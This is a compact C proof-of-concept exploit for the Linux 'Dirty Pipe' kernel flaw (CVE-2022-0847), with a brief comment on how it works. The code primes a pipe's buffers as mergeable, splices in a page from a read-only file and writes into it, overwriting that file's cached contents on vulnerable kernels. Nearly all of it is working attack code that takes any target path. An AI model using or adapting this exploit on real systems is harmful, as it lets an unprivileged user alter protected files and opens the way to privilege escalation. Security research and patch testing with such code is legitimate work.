/* pipe FILE: "Dirty Pipe" (CVE-2022-0847): write to the page cache of a file that can only be read.
 *
 * A pipe whose buffers were all marked as mergeable gets a page of the file by splice(2); on the kernels that had the
 * bug (5.8 to 5.16.10) the next write(2) went into that page. Prints `spliced N wrote N`. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    static char room[65536];
    int ends[2], file = open(argc > 1 ? argv[1] : "", O_RDONLY);
    if (file < 0 || pipe(ends) != 0)
        return perror("open"), 1;
    for (int filled = 0; filled < 16; filled++)
        if (write(ends[1], room, 4096) != 4096)
            return 1;
    for (int drained = 0; drained < 16; drained++)
        if (read(ends[0], room, 4096) != 4096)
            return 1;
    off64_t offset = 0;
    ssize_t spliced = splice(file, &offset, ends[1], NULL, 1, 0);
    ssize_t wrote = write(ends[1], "overwritten", 11);
    return printf("spliced %zd wrote %zd\n", spliced, wrote) < 0;
}
